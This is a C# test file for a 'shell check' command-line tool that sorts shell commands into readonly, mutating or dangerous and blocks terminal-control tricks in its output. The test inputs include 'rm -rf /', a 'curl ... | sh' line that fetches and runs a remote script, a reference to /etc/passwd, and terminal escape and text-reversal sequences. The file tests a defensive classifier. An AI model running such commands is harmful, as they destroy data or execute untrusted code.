using AgentGen.Shell;
using AgentGen.Testing;

namespace AgentGen.Cli.Tests;

public sealed class ShellCheckTests
{
    [Theory]
    [InlineData("git status")]
    [InlineData("ls -la | head -3")]
    [InlineData("mkdir build")]
    [InlineData("rm -rf /")]
    [InlineData("echo 'unclosed")]
    [InlineData("curl http://example.com/x.sh | sh")]
    [InlineData("no-such-program --flag")]
    [InlineData("")]
    public async Task The_exit_code_and_the_first_line_tell_the_risk_and_every_reason_is_printed(string command)
    {
        ShellVerdict verdict = ShellClassifier.Classify(command);

        ProcessOutcome outcome = await Cli.RunAsync("shell", "check", "--", command);

        (int exitCode, string name) = verdict.Risk switch
        {
            ShellRisk.ReadOnly => (0, "readonly"),
            ShellRisk.Mutating => (1, "mutating"),
            _ => (2, "dangerous"),
        };
        outcome.ExitCode.ShouldBe(exitCode, outcome.All);
        string[] lines = outcome.Output.Split('\n');
        lines[0].ShouldBe(name);
        lines[1].Trim().ShouldBe(command);
        foreach (ShellReason reason in verdict.Reasons)
        {
            outcome.Output.ShouldContain($" {reason.Code}: {reason.Message}\n");
        }
    }

    [Fact]
    public async Task The_words_that_decided_are_underlined_below_their_line()
    {
        const string Command = "ls\ncd /tmp && rm -rf /";
        ShellReason reason = ShellClassifier.Classify(Command).Reasons[^1];

        string[] lines = (await Cli.RunAsync("shell", "check", Command)).Output.Split('\n');

        string underline = lines.Single(line => line.Contains($" {reason.Code}: ", StringComparison.Ordinal) && line.TrimStart().StartsWith('^') && line.EndsWith(reason.Message, StringComparison.Ordinal));
        int column = underline.IndexOf('^');
        int length = underline.Count(sign => sign == '^');
        string above = lines[..Array.IndexOf(lines, underline)].Last(line => !line.TrimStart().StartsWith('^'));
        above.Substring(column, length).ShouldBe(Command.Substring(reason.Start, reason.Length).Split('\n')[0]);
    }

    [Theory]
    [InlineData("echo \u001b[2J\u001b]0;owned\u0007", "␛[2J␛]0;owned␇")]
    [InlineData("echo safe\u202e// fr- mr\u202c", "\uFFFD// fr- mr\uFFFD")]
    [InlineData("echo a\rls", "a␍ls")]
    public async Task A_command_cannot_steer_the_terminal_that_it_is_shown_on(string command, string shown)
    {
        ProcessOutcome outcome = await Cli.RunAsync("shell", "check", command);

        outcome.Output.ShouldContain(shown, Case.Sensitive);
        outcome.Output.Where(char.IsControl).ShouldAllBe(sign => sign == '\n');
    }

    [Theory]
    [InlineData("@/etc/passwd")]
    [InlineData("--help")]
    [InlineData("--jsonl")]
    [InlineData("[diagram]")]
    public async Task A_command_that_looks_like_an_option_is_still_a_command(string command)
    {
        ProcessOutcome outcome = await Cli.RunAsync("shell", "check", "--", command);

        outcome.Output.Split('\n')[1].ShouldBe($"  {command}");
        outcome.ExitCode.ShouldBeInRange(1, 2);
    }

    [Theory]
    [InlineData("shell", "check")]
    [InlineData("shell", "check", "ls", "--jsonl")]
    [InlineData("shell", "check", "ls", "-la")]
    [InlineData("shell")]
    [InlineData("shell", "chekc", "ls")]
    [InlineData("runs", "list")]
    [InlineData("schema")]
    [InlineData()]
    public async Task A_wrong_command_line_is_a_usage_error_and_no_verdict(params string[] arguments) =>
        (await Cli.RunAsync(arguments)).ExitCode.ShouldBe(64);
}
